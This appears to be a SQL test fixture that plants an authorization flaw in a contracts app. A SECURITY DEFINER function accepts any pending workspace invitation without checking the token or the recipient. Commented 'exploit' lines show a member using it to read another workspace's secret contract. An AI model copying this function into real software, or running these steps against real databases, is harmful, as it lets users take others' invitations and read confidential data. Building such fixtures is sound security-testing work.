-- Whoever names a workspace takes an invitation that waits there, though it was sent to somebody else.
-- about: accept_invitation, invitations
-- as: hf_contracts_app
-- exploit: SET request.jwt.claims = '{"sub": "a0000000-0000-4000-8000-000000000001", "role": "member"}';
-- exploit: SELECT ct.accept_invitation_of('b0000000-0000-4000-8000-000000000000') IS NOT NULL;
-- exploit: SELECT title FROM ct.contracts;
-- shows: Road-secret merger
-- The page of a workspace has a button to accept, where the token of the letter is not at hand.
CREATE FUNCTION ct.accept_invitation_of(ws uuid) RETURNS uuid
LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp
AS $$
  SELECT ct.accept_invitation(i.token) FROM ct.invitations i
  WHERE i.workspace_id = ws AND i.accepted_at IS NULL
  LIMIT 1
$$;
GRANT EXECUTE ON FUNCTION ct.accept_invitation_of(uuid) TO hf_contracts_app;
